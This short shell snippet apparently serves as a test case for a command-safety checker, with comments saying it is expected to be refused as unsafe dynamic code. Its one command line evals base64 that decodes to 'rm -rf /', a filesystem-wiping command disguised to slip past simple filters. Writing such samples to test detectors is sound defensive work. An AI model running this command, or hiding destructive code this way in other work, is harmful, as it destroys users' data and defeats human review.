# Trick: code is hidden in base64 and given to eval.
# Refused: unsafe(dynamic_code)
eval "$(echo cm0gLXJmIC8= | base64 -d)"
